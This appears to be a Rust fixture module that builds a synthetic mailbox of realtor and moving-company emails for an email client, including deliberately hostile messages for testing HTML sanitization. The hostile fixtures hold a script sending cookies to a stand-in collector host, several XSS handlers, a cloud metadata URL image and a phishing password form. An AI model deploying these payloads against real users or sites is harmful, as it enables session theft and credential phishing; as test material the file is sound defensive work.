//! The made messages of a new mailbox: 45 that a list shows, one in the trash and one in the junk.
//! They are the same for each address; only their ids differ, and their times follow from the
//! mailbox's first use. Some are hostile: they test what Doorstep does with received HTML. A huge
//! mailbox has [`Older`] messages, too.

use chrono::{DateTime, TimeDelta, Utc};
use serde::{Deserialize, Serialize};

use super::accounts::display_name;
use super::messages::{Attachment, Message, Party, message_id};
use crate::page::escape;

/// The people who write, with their addresses.
const PEOPLE: [(&str, &str); 12] = [
    ("Maria Vasquez", "maria.vasquez@lindenrealty.example"),
    ("Tom Okafor", "tom@okaforhomes.example"),
    ("Priya Raman", "priya.raman@northgate.example"),
    ("Grace Whitfield", "grace.whitfield@lakeshorehomes.example"),
    ("Ben Castillo", "ben.castillo@capitolcity.example"),
    ("Hannah Lindqvist", "hannah@lindqvist.example"),
    ("Marcus Bell", "marcus.bell@bellandsons.example"),
    ("Yuki Tanaka", "yuki.tanaka@riverbend.example"),
    ("Olivia Marsh", "olivia@marshgroup.example"),
    ("Sam Delgado", "sam.delgado@hillcountry.example"),
    ("Renee Fournier", "renee.fournier@oakandvine.example"),
    ("Walter Price", "walter.price@priceestates.example"),
];

/// Subjects and texts of ordinary messages.
const TOPICS: [(&str, &str); 11] = [
    (
        "Walkthrough on Thursday",
        "Hi,\n\ncould your crew join the walkthrough on Thursday at 10? The sellers have a piano and \
         want to know whether it fits through the back door.\n\nThanks",
    ),
    (
        "Quote for a two-bedroom move",
        "Hello,\n\nmy buyers close on the 18th and need a quote for a two-bedroom condo, third floor, \
         with an elevator. About 900 square feet.\n\nBest regards",
    ),
    (
        "Closing was moved by a week",
        "Just a quick note: the lender asked for one more week. Can you hold the truck for the 25th?",
    ),
    (
        "Storage between two homes",
        "Hi there,\n\nmy clients sell on the 5th but can't move in before the 20th. Do you offer \
         storage for two weeks, and what does it cost?\n\nThank you",
    ),
    (
        "Thank you for the fast move",
        "The Hendersons were very happy. The crew was on time and nothing was damaged. I will pass \
         your card on.",
    ),
    (
        "Parking permit for the truck",
        "The city needs the license plate of the truck at least three days before. Could you send it \
         to me today?",
    ),
    (
        "New listing on Cypress Avenue",
        "Hello,\n\nwe listed a four-bedroom on Cypress Avenue this morning. The sellers relocate to \
         Denver and asked me for movers.\n\nRegards",
    ),
    (
        "Insurance certificate",
        "The building requires a certificate of insurance with the association as an additional \
         insured. Please send it by Friday.",
    ),
    (
        "Packing service",
        "Do you also pack? My client is 82 and would rather not do it alone.",
    ),
    (
        "Out-of-state move to Oregon",
        "Hi,\n\nhow long does a move from Austin to Portland take, and when would you need the final \
         inventory?\n\nThanks a lot",
    ),
    (
        "Lunch next week?",
        "It was good to meet you at the broker open house. Are you free for lunch on Tuesday or \
         Wednesday?",
    ),
];

/// The number of [`Older`] messages.
pub(super) const OLDER: usize = 2_000_000;

/// The age of the newest older message. All others are younger.
const OLDER_MINUTES: i64 = 41_000;

/// The time between two ordinary messages.
const STEP_MINUTES: i64 = 1_240;

/// A PNG with one gray pixel.
const PIXEL: [u8; 67] = [
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52, 0x00,
    0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x00, 0x00, 0x00, 0x00, 0x3A, 0x7E, 0x9B, 0x55, 0x00,
    0x00, 0x00, 0x0A, 0x49, 0x44, 0x41, 0x54, 0x78, 0xDA, 0x63, 0x68, 0x00, 0x00, 0x00, 0x82, 0x00, 0x81,
    0xDA, 0x45, 0x08, 0x3B, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
];

const PDF: &[u8] = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n\
    2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
    3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n";

const CSV: &[u8] = b"room,item,count\nliving room,sofa,1\nliving room,bookshelf,3\nkitchen,box,12\n";

/// An HTML file with a script, as an attachment.
const HTML_FILE: &[u8] = b"<!doctype html><script>document.title='opened'</script><p>Floor plan</p>";

const NEWSLETTER: &str = r#"<html><head><style>body{background:url(https://images.example/back.png)}</style></head>
<body><h1>Austin Housing Weekly</h1>
<img src="https://images.example/header.png?reader=4711" alt="Austin skyline" width="600">
<script>fetch("https://collector.example/?c=" + document.cookie)</script>
<p onclick="alert(1)">Median days on market fell to <b>31</b>.</p>
<img src="x" onerror="alert(2)">
<p><a href="https://news.example/weekly">Read more</a> or <a href="javascript:alert(3)">click here</a>.</p>
<img src="http://169.254.169.254/latest/meta-data/" width="1" height="1" alt="">
</body></html>"#;

const PHISHING: &str = r#"<html><head><base href="https://login.example/">
<meta http-equiv="refresh" content="0;url=https://login.example/"></head><body>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://images.example/p.gif)">
<p>Your mailbox is almost full.</p>
<form action="https://login.example/session" method="post"><input name="password" type="password">
<button>Keep my mail</button></form></div>
<iframe src="https://login.example/frame"></iframe>
<svg><script>alert(4)</script></svg></body></html>"#;

const SIGNED: &str = r#"<p>Hello,</p><p>the floor plan is ready. Call me if the driveway is too narrow for the truck.</p>
<p>Olivia Marsh<br>Marsh Group<br><img src="cid:logo@marshgroup.example" alt="Marsh Group" width="1"></p>"#;

/// The messages of a mailbox that is first used at `now`, oldest first.
pub(super) fn messages(address: &str, now: DateTime<Utc>) -> Vec<Message> {
    let maker = Maker::new(address, now);
    let mut all = maker.ordinary();
    all.extend(maker.conversation());
    all.extend(maker.with_attachments());
    all.extend(maker.unusual());
    all.extend(maker.hostile());
    all.sort_by_key(|message| message.received_at);
    all
}

/// Ordinary messages before the others, one a minute. They are not stored but made when they are
/// read, and count from the newest.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub(super) struct Older {
    address: String,
    now: DateTime<Utc>,
}

impl Older {
    pub fn new(address: &str, now: DateTime<Utc>) -> Self {
        let address = address.to_owned();
        Self { address, now }
    }

    pub fn message(&self, number: usize) -> Message {
        let (subject, text) = TOPICS[number % TOPICS.len()];
        let (name, address) = PEOPLE[number % PEOPLE.len()];
        let maker = Maker::new(&self.address, self.now);
        let minutes_ago = OLDER_MINUTES + i64::try_from(number).unwrap_or_default();
        let from = party(Some(name), address);
        let message = maker.message("older", minutes_ago, from, Some(subject), text);
        let id = format!("{}{number:07x}", self.prefix());
        Message {
            thread_id: id.clone(),
            internet_message_id: format!("<{id}@mail.example.com>"),
            id,
            ..message
        }
    }

    /// The number of a message with this id.
    pub fn number(&self, id: &str) -> Option<usize> {
        let digits = id.strip_prefix(&self.prefix())?;
        let number = usize::from_str_radix(digits, 16).ok()?;
        (number < OLDER && digits.len() == 7).then_some(number)
    }

    /// The beginning of the ids.
    fn prefix(&self) -> String {
        message_id(&self.address, "older").chars().take(9).collect()
    }
}

struct Maker {
    /// The owner of the mailbox.
    owner: Party,
    now: DateTime<Utc>,
}

impl Maker {
    fn new(address: &str, now: DateTime<Utc>) -> Self {
        let owner = Party {
            name: Some(display_name(address)),
            address: address.to_owned(),
        };
        Self { owner, now }
    }

    /// A message with a text. `name` identifies it in the mailbox.
    fn message(
        &self,
        name: &str,
        minutes_ago: i64,
        from: Party,
        subject: Option<&str>,
        text: &str,
    ) -> Message {
        let id = message_id(&self.owner.address, name);
        let received_at = self.now - TimeDelta::minutes(minutes_ago);
        Message {
            thread_id: id.clone(),
            internet_message_id: format!("<{id}@mail.example.com>"),
            subject: subject.map(str::to_owned),
            from,
            to: vec![self.owner.clone()],
            cc: Vec::new(),
            sent_at: received_at - TimeDelta::seconds(3),
            received_at,
            labels: vec!["inbox".to_owned()],
            text: text.to_owned(),
            html: html_of(text),
            in_reply_to: None,
            references: None,
            attachments: Vec::new(),
            headers: Vec::new(),
            mail: None,
            id,
        }
    }

    /// 33 messages of one text each, over four weeks.
    fn ordinary(&self) -> Vec<Message> {
        let topics = TOPICS.iter().cycle();
        let people = PEOPLE.iter().cycle();
        (0..)
            .zip(topics.zip(people))
            .take(33)
            .map(|(number, ((subject, text), (name, address)))| {
                let minutes_ago = 95 + number * STEP_MINUTES;
                let which = format!("ordinary {number}");
                let signed = format!("{text}\n{name}");
                let from = party(Some(name), address);
                let mut message = self.message(&which, minutes_ago, from, Some(subject), &signed);
                for (label, every, offset) in [("unread", 4, 0), ("important", 7, 3), ("flagged", 11, 5)] {
                    if number % every == offset {
                        message.labels.push(label.to_owned());
                    }
                }
                message
            })
            .collect()
    }

    /// A sent message with its answer, and a sent message without one.
    fn conversation(&self) -> Vec<Message> {
        let maria = party(Some("Maria Vasquez"), "maria.vasquez@lindenrealty.example");
        let text = "Hello Maria,\n\ncongratulations on your new listing on 214 Linden Street. If the \
                    sellers need movers, we would be glad to help.\n\nTo stop these emails, reply Unsubscribe.";
        let subject = "Your listing on 214 Linden Street";
        let mut first = self.message("sent 1", 1_510, self.owner.clone(), Some(subject), text);
        first.to = vec![maria.clone()];
        first.labels = vec!["sent".to_owned()];

        let quoted: Vec<String> = text.lines().map(|line| format!("> {line}")).collect();
        let answer = format!(
            "Yes, please call me tomorrow after 3 pm. The sellers move in June.\n\nMaria\n\n\
             On Monday {} wrote:\n{}",
            self.owner.name.as_deref().unwrap_or_default(),
            quoted.join("\n"),
        );
        let subject = "Re: Your listing on 214 Linden Street";
        let mut second = self.message("answer 1", 12, maria, Some(subject), &answer);
        second.thread_id.clone_from(&first.thread_id);
        second.in_reply_to = Some(first.internet_message_id.clone());
        second.references = Some(first.internet_message_id.clone());
        second.labels.extend(["unread", "important"].map(str::to_owned));

        let text = "Hi Tom,\n\nthe quote for the Hendersons is attached to the portal. Let me know.";
        let subject = "Quote for the Hendersons";
        let mut third = self.message("sent 2", 4_400, self.owner.clone(), Some(subject), text);
        third.to = vec![party(Some("Tom Okafor"), "tom@okaforhomes.example")];
        third.labels = vec!["sent".to_owned()];
        vec![first, second, third]
    }

    /// Two messages with files and one with a picture in its HTML.
    fn with_attachments(&self) -> Vec<Message> {
        let attach = |message: &mut Message, name: &str, kind: &str, content: &[u8], shown: Option<&str>| {
            let id = format!("{}-{}", message.id, message.attachments.len() + 1);
            message
                .attachments
                .push(Attachment::new(&id, name, kind, content, shown));
        };
        let billing = party(Some("Fleet Billing"), "billing@fleet.example");
        let text = "Your invoice for November and the list of items are attached.";
        let mut invoice = self.message("invoice", 2_890, billing, Some("Invoice 2026-1187"), text);
        attach(
            &mut invoice,
            "Invoice 2026-1187.pdf",
            "application/pdf",
            PDF,
            None,
        );
        attach(&mut invoice, "items.csv", "text/csv", CSV, None);

        let grace = party(None, "grace.whitfield@lakeshorehomes.example");
        let mut nameless = self.message("files", 205, grace, None, "See the plan.");
        attach(
            &mut nameless,
            "plan & stairs <2>.html",
            "text/html",
            HTML_FILE,
            None,
        );
        nameless.labels.push("unread".to_owned());

        let olivia = party(Some("Olivia Marsh"), "olivia@marshgroup.example");
        let text = "Hello,\n\nthe floor plan is ready. Call me if the driveway is too narrow for the truck.";
        let mut signed = self.message("signed", 6_120, olivia, Some("Floor plan"), text);
        SIGNED.clone_into(&mut signed.html);
        let shown = Some("logo@marshgroup.example");
        attach(&mut signed, "logo.png", "image/png", &PIXEL, shown);
        vec![invoice, nameless, signed]
    }

    /// Messages with unusual headers, a draft, and a message in the trash.
    fn unusual(&self) -> Vec<Message> {
        let empty = party(Some("Walter Price"), "walter.price@priceestates.example");
        let empty = self.message("no subject", 3_333, empty, None, "Call me.");

        let long = "Update on the inspection, the appraisal, the repairs that the buyers asked for, the date \
                    of the closing and everything else that we discussed on the phone on Friday afternoon";
        let author = party(Some("Zoë Müller-Nakamura 住まい"), "zoe@mueller-nakamura.example");
        let long = self.message(
            "long",
            8_700,
            author,
            Some(long),
            "Everything is on track. 🏡 More on Monday.",
        );

        let author = party(Some("Hill Country Association"), "events@hillcountry.example");
        let text = "The spring meeting is on the 14th. Please tell us whether you will come.";
        let mut group = self.message("group", 11_050, author, Some("Spring meeting"), text);
        group.to.extend(
            PEOPLE
                .iter()
                .take(4)
                .map(|(name, address)| party(Some(name), address)),
        );
        group.cc.extend(
            PEOPLE
                .iter()
                .skip(4)
                .map(|(name, address)| party(Some(name), address)),
        );

        let text = "Hi Priya,\n\nabout the ";
        let mut draft = self.message("draft", 77, self.owner.clone(), Some("Piano"), text);
        draft.to = vec![party(Some("Priya Raman"), "priya.raman@northgate.example")];
        draft.labels = vec!["draft".to_owned()];

        let author = party(Some("Office Supplies"), "offers@supplies.example");
        let mut trash = self.message("trash", 15_000, author, Some("Boxes on sale"), "Only this week.");
        trash.labels = vec!["trash".to_owned()];
        vec![empty, long, group, draft, trash]
    }

    /// HTML that must not be shown as it is.
    fn hostile(&self) -> Vec<Message> {
        let author = party(Some("Austin Housing Weekly"), "weekly@news.example");
        let text = "Austin Housing Weekly. Median days on market fell to 31.";
        let mut newsletter = self.message("newsletter", 480, author, Some("Austin Housing Weekly"), text);
        NEWSLETTER.clone_into(&mut newsletter.html);
        newsletter.labels.push("unread".to_owned());

        let author = party(Some("Mail <b>Support</b>"), "support@login.example");
        let text = "Your mailbox is almost full.";
        let subject = "<img src=x onerror=alert(5)> Your mailbox is almost full";
        let mut phishing = self.message("phishing", 5_005, author, Some(subject), text);
        PHISHING.clone_into(&mut phishing.html);

        let author = party(Some("You won"), "prizes@luck.example");
        let text = "Claim your prize now.";
        let mut junk = self.message("junk", 900, author, Some("You are our winner"), text);
        junk.labels = vec!["junk".to_owned(), "unread".to_owned()];
        vec![newsletter, phishing, junk]
    }
}

fn party(name: Option<&str>, address: &str) -> Party {
    Party {
        name: name.map(str::to_owned),
        address: address.to_owned(),
    }
}

/// A text as HTML: empty lines separate paragraphs.
pub(super) fn html_of(text: &str) -> String {
    let paragraphs = text.split("\n\n").map(|paragraph| {
        let lines = escape(paragraph).replace('\n', "<br>");
        format!("<p>{lines}</p>")
    });
    paragraphs.collect()
}

#[cfg(test)]
#[allow(clippy::unwrap_used, reason = "a test may fail by panicking")]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn each_mailbox_has_the_same_messages_with_its_own_ids() {
        let now: DateTime<Utc> = "2026-03-09T12:00:00Z".parse().unwrap();
        let (dana, lee) = (
            messages("dana@example.com", now),
            messages("lee@example.com", now),
        );
        let hidden = |one: &&Message| one.has("trash") || one.has("junk");
        assert_eq!(dana.len(), 47);
        assert_eq!(dana.iter().filter(hidden).count(), 2);
        let ids: BTreeSet<&str> = dana.iter().chain(&lee).map(|one| one.id.as_str()).collect();
        assert_eq!(ids.len(), 94);
        let subjects = |all: &[Message]| all.iter().map(|one| one.subject.clone()).collect::<Vec<_>>();
        assert_eq!(subjects(&dana), subjects(&lee));
        assert!(dana.iter().all(|one| one.received_at < now));
        assert_eq!(dana.iter().filter(|one| one.subject.is_none()).count(), 2);
        assert_eq!(
            messages("dana@example.com", now).first().map(|one| &one.id),
            dana.first().map(|one| &one.id)
        );
    }

    #[test]
    fn older_messages_are_found_by_their_ids() {
        let now: DateTime<Utc> = "2026-03-09T12:00:00Z".parse().unwrap();
        let address = "huge@example.com";
        let older = Older::new(address, now);
        for number in [0, 1, 33, OLDER - 1] {
            assert_eq!(older.number(&older.message(number).id), Some(number));
        }
        let first = &messages(address, now)[0];
        assert!(older.message(0).received_at < first.received_at);
        assert!(older.message(1).received_at < older.message(0).received_at);
        assert_eq!(older.number(&first.id), None);
        assert_eq!(older.number(&older.message(OLDER).id), None);
        assert_eq!(
            Older::new("b@example.com", now).number(&older.message(0).id),
            None
        );
    }
}
